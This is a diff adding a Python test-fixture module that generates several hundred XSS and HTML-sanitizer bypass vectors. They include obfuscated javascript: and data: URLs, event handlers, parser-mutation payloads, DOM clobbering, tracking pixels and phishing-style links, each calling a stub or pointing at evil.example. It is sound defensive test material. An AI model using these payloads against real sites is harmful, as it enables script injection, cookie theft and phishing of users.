@@ -1,0 +1,212 @@
+"""Markup that tries to run, to send, to hide or to leave its box, by the kinds of public lists.
+
+Each vector calls `fired`, or leads to `evil.example`: a test can see both.
+"""
+
+from collections.abc import Iterator
+
+RUN = "fired(1)"
+EVIL = "https://evil.example"
+
+_SCRIPT_ADDRESSES = (
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f" javascript:{RUN}",
+    f"java\tscript:{RUN}",
+    f"java\nscript:{RUN}",
+    f"\x01javascript:{RUN}",
+    f"java\x00script:{RUN}",
+    f"\u00a0javascript:{RUN}",
+    f"\u202ejavascript:{RUN}",
+    f"\ufeffjavascript:{RUN}",
+    f"java\u00adscript:{RUN}",
+    f"&#106;&#97;vascript&#58;{RUN}",
+    f"&#x6A;avascript&colon;{RUN}",
+    f"java&Tab;script&NewLine;:{RUN}",
+    f"&#0000106avascript:{RUN}",
+    f"javascript://ok.example/%0a{RUN}",
+    f"vbscript:{RUN}",
+    f"livescript:{RUN}",
+    f"data:text/html,<script>parent.{RUN}</script>",
+    "data:text/html;base64,PHNjcmlwdD5maXJlZCgxKTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fired(1)'/>",
+    f"view-source:javascript:{RUN}",
+    f"feed:javascript:{RUN}",
+    "blob:https://evil.example/1",
+    "file:///etc/passwd",
+    "intent://evil.example#Intent;scheme=https;end",
+    "ms-msdt:/id PCWDiagnostic",
+)
+_ADDRESS_PLACES = (
+    '<a href="{}">x</a>',
+    '<img src="{}">',
+    '<iframe src="{}"></iframe>',
+    '<form action="{}"><button formaction="{}">x</button></form>',
+)
+_MORE_PLACES = (
+    '<object data="{}"></object>',
+    '<embed src="{}">',
+    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
+    '<svg><use href="{}"></use></svg>',
+    '<svg><image href="{}"></image></svg>',
+    '<math href="{}"><mi>x</mi></math>',
+    '<math><mi xlink:href="{}">x</mi></math>',
+    '<base href="{}">',
+    '<meta http-equiv="refresh" content="0;url={}">',
+    '<link rel="stylesheet" href="{}">',
+    '<body background="{}">',
+    '<table background="{}"><tr><td background="{}">x</td></tr></table>',
+    '<video poster="{}"><source src="{}"></video>',
+    '<img lowsrc="{}" dynsrc="{}" longdesc="{}">',
+    '<blockquote cite="{}">x</blockquote>',
+    '<input type="image" src="{}">',
+    '<frameset><frame src="{}"></frameset>',
+    '<img srcset="{} 1x">',
+    '<picture><source srcset="{}"><img src="/ok.png"></picture>',
+    '<a href="/ok" ping="{}">x</a>',
+    '<script src="{}"></script>',
+    '<style>@import "{}";</style>',
+    '<p style="background:url({})">x</p>',
+    '<isindex action="{}">',
+    '<applet code="{}"></applet>',
+    '<image src="{}">',
+    '<bgsound src="{}">',
+)
+_HANDLERS = (
+    "<img src=x onerror={}>",
+    "<img src=x:x onerror='{}'>",
+    "<img/src='x'/onerror='{}'>",
+    "<IMG SRC=x ONERROR={}>",
+    "<img src=x onerror\n=\n{}>",
+    "<img src=x \x0conerror={}>",
+    '<img """><img src=x onerror={}>',
+    "<img src=`x` onerror={}>",
+    "<img src='/ok.png' onload={}>",
+    "<body onload={}>x",
+    "<svg onload={}>",
+    "<svg/onload={}>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>",
+    "<svg><set attributeName=onmouseover to={}>",
+    "<svg><a><animate attributeName=href values=javascript:{} /><text y=20>x</text></a>",
+    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
+    "<svg><script>{}</script></svg>",
+    "<svg><desc><img src=x onerror={}></desc></svg>",
+    "<details open ontoggle={}><summary>x</summary></details>",
+    "<video><source onerror={}></video>",
+    "<audio src=x onerror={}></audio>",
+    "<input autofocus onfocus={}>",
+    "<a href=/ok autofocus tabindex=1 onfocus={}>x</a>",
+    "<p onpointerover={} onclick={}>x</p>",
+    "<marquee onstart={}>x</marquee>",
+    "<p style='animation:x' onanimationstart={}>x</p>",
+    "<p contenteditable autofocus onfocus={}>x</p>",
+    "<iframe srcdoc='<img src=x onerror=parent.{}>'></iframe>",
+    "<iframe onload={}></iframe>",
+    "<object onerror={} data=x></object>",
+    "<script>{}</script>",
+    "<script/x>{}</script>",
+    "<scr<script>ipt>{}</scr</script>ipt>",
+    "<<script>{}//<</script>",
+    "<script>{}",
+    "<script\x20type=module>{}</script>",
+    "<p title=x\u2028onclick={}>x</p>",
+    "<dialog open onclose={}><form method=dialog>x</form></dialog>",
+    "<p popover onbeforetoggle={}>x</p>",
+)
+_MUTATIONS = (
+    "<noscript><p title='</noscript>{}'></noscript>",
+    "<template>{}</template>",
+    "<template><p title='</template>{}'></template>",
+    "<textarea><p title='</textarea>{}'></textarea>",
+    "<title><p title='</title>{}'></title>",
+    "<style><p title='</style>{}'></style>",
+    "<xmp><p title='</xmp>{}'></xmp>",
+    "<noembed><p title='</noembed>{}'></noembed>",
+    "<noframes><p title='</noframes>{}'></noframes>",
+    "<iframe><p title='</iframe>{}'></iframe>",
+    "<plaintext>{}",
+    "<listing>&lt;img src=x onerror=fired(1)&gt;</listing>{}",
+    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;{}'></table></mtext></math>",
+    "<math><mtext><mglyph><style><math>{}</style></mglyph></mtext></math>",
+    "<form><math><mtext></form><form><mglyph><style></math>{}</style></mglyph></mtext></form>",
+    "<svg></p><style><p title='</style>{}'></svg>",
+    "<svg><style><p title='</style>{}'></style></svg>",
+    "<math><annotation-xml encoding='text/html'><style>{}</style></annotation-xml></math>",
+    "<svg><desc><style>{}</style></desc></svg>",
+    "<table><tr>{}<td>x</td></tr></table>",
+    "<table><caption><svg><style>{}</style></svg></caption></table>",
+    "<select><option>{}</option></select>",
+    "<select><style>{}</style></select>",
+    "<!-->{}-->",
+    "<!--!>{}-->",
+    "<!-- --!>{}-->",
+    "<!--<!-- >{}-->",
+    "<![CDATA[{}]]>",
+    "<svg><![CDATA[><p title=']]>{}'></svg>",
+    "<?xml version='1.0'?>{}",
+    "<?php {} ?>",
+    "<!DOCTYPE x [<!ENTITY e '{}'>]>&e;",
+    "<p title=`>{}`>x</p>",
+    '<p title="x\'>{}">x</p>',
+    "</div></div></div></article></main></body></html>{}",
+    "<li><div><center><li>{}</li></center></div></li>",
+    "<dd><div><main><dd>{}</dd></main></div></dd>",
+    "<a href=/ok><marquee><a href=/ok>{}</a></marquee></a>",
+    "<p><b lang=1><i lang=2><p>{}<p>{}",
+    "+ADw-script+AD4-fired(1)+ADw-/script+AD4-{}",
+    "&lt;script&gt;fired(1)&lt;/script&gt;{}",
+    "&amp;lt;img src=x onerror=fired(1)&amp;gt;{}",
+    "<\x00script>fired(1)</\x00script>{}",
+    "<s\x00cript>fired(1)</script>{}",
+    "\uff1cscript\uff1efired(1)\uff1c/script\uff1e{}",
+)
+_CARRIED = ("<img src=x onerror=fired(1)>", "<script>fired(1)</script>", "<svg onload=fired(1)>")
+_HIDING = (
+    "<p style='position:fixed;inset:0;background:red;z-index:9999'>x</p>",
+    "<p class='masthead skip' id=main>x</p>",
+    "<a id=location name=location href=/ok>x</a><img name=cookie src=/ok.png>",
+    "<form id=document name=body><input name=attributes><input name=parentNode></form>",
+    "<style>*{display:none}</style>",
+    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>",
+    "<p style='width:expression(fired(1));-moz-binding:url(https://evil.example/x#y)'>x</p>",
+    "<a href=/ok target=_blank>x</a><a href=/ok target=_top rel=opener>x</a>",
+    "<a href='https://bank.example@evil.example/'>bank</a>",
+    "<a href='mailto:a@b.example?bcc=c@evil.example&attach=/etc/passwd'>mail</a>",
+    "<p dir=rtl>\u202egnp.exe\u202c \u2066x\u2069 \u061c\u200f</p>",
+    "<img src=https://evil.example/seen.gif width=1 height=1>",
+    "<img src='http://127.0.0.1:9/x.png'><img src='https://127.0.0.1\\.ok.example/x.png'>",
+    "<img src=/ok.png crossorigin=use-credentials referrerpolicy=unsafe-url usemap=#m>",
+    "<map name=m><area href='javascript:fired(1)' shape=default></map>",
+    "<link rel=prefetch href=https://evil.example/x><link rel=dns-prefetch href=//evil.example>",
+    '<meta http-equiv=Content-Security-Policy content="default-src *"><meta charset=utf-7>',
+    "<meta http-equiv=Set-Cookie content='a=b'>",
+    "<p slot=x is=x-x itemscope itemid=javascript:fired(1)>x</p><x-y onclick=fired(1)>x</x-y>",
+    "<button popovertarget=x commandfor=x command=show-modal>x</button>",
+    "<keygen autofocus onfocus=fired(1)><menuitem icon=x onclick=fired(1)>",
+    "<p accesskey=x tabindex=0 hidden inert>x</p>",
+    "<a href=/ok download=x.exe>x</a>",
+    f"<a href=/ok title='{'A' * 5_000}' {'x' * 5_000}=1>x</a>",
+)
+
+
+def vectors() -> Iterator[str]:
+    """More than 250 fragments."""
+    for address in _SCRIPT_ADDRESSES:
+        for place in _ADDRESS_PLACES:
+            yield place.replace("{}", address.replace('"', "&quot;"))
+    for place in _MORE_PLACES:
+        for address in (f"javascript:{RUN}", f"{EVIL}/x"):
+            yield place.replace("{}", address)
+    for handler in _HANDLERS:
+        yield handler.replace("{}", RUN)
+    for number, mutation in enumerate(_MUTATIONS):
+        yield mutation.replace("{}", _CARRIED[number % len(_CARRIED)])
+    yield from _HIDING
+
+
+def addresses() -> Iterator[str]:
+    """Addresses of an article, or of its picture, that no page may have."""
+    yield from _SCRIPT_ADDRESSES
+    yield from ("https://user:secret@evil.example/", "http://[::1]/", "//", "https://", "http://a b/")
+    yield f'https://ok.example/"><script>{RUN}</script>'
+    yield f"https://ok.example/'onmouseover='{RUN}"
